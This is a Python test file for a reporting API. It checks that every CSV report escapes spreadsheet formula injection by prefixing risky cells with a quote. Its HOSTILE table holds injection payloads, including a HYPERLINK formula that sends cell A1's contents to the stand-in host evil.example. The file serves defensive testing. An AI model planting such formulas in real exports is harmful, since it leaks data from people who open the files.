"""No CSV the service writes can make a spreadsheet run a formula (issue 14, item 2)."""

from __future__ import annotations

import csv
import io
from datetime import date
from typing import Any

import httpx

from ipcp_api.reports.csv import text_cell

HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"open me")',
    "+": "+SUM(1+1)",
    "-": "-2+3",
    "@": "@SUM(1)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def test_text_cell() -> None:
    for value in HOSTILE.values():
        assert text_cell(value) == "'" + value
    for harmless in ("Counter-terrorism", "x=1", "مشروع", "", " =1", "'=1"):
        assert text_cell(harmless) == harmless


def _rows(response: httpx.Response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8"), newline="")))


async def test_every_csv_report_neutralises_formulas(
    client: httpx.AsyncClient, factory: Any
) -> None:
    partner = await factory.partner(code="-ORG", name=HOSTILE["@"])
    programme = await factory.programme(
        partner_id=partner.id, code="-2", title=HOSTILE["="], status="active",
        approved_on=date(2016, 5, 1),
    )  # fmt: skip
    titles = [HOSTILE["+"], HOSTILE["tab"], HOSTILE["cr"]]
    for n, title in enumerate(titles):
        project = await factory.project(programme_id=programme.id, code=f"-{n}", title=title)
        # due and not done: a negative variance, which must stay a number
        await factory.milestone(project_id=project.id, due_on=date(2017, 1, 1))
    csv_accept = {"Accept": "text/csv"}

    rows = _rows(
        await client.get(
            f"/api/v1/programmes/{programme.id}/report", params={"as_of": "2017-06-30"},
            headers=csv_accept,
        )
    )  # fmt: skip
    header = rows[0]
    by_code = {row[1]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    assert sorted(by_code) == ["'-0", "'-1", "'-2"]
    assert [by_code[f"'-{n}"]["project_title"] for n in range(3)] == ["'" + t for t in titles]
    for row in by_code.values():
        assert row["variance"] == "-1.0"  # a number, not text: no quote
        assert row["expected_progress"] == "1.0"

    rows = _rows(
        await client.get(
            f"/api/v1/partners/{partner.id}/report", params={"as_of": "2017-06-30"},
            headers=csv_accept,
        )
    )  # fmt: skip
    row = dict(zip(rows[0], rows[1], strict=True))
    assert (row["programme_code"], row["programme_title"]) == ("'-2", "'" + HOSTILE["="])
    assert row["variance"] == "-1.0"

    rows = _rows(
        await client.get(
            "/api/v1/reports/portfolio", params={"as_of": "2017-06-30"}, headers=csv_accept
        )
    )
    mine = [dict(zip(rows[0], row, strict=True)) for row in rows[1:] if row[0] == str(partner.id)]
    assert len(mine) == 1
    assert (mine[0]["partner_code"], mine[0]["partner_name"]) == ("'-ORG", "'" + HOSTILE["@"])
    assert mine[0]["variance"] == "-1.0"
    # nothing in any cell of any of these CSVs starts a formula
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
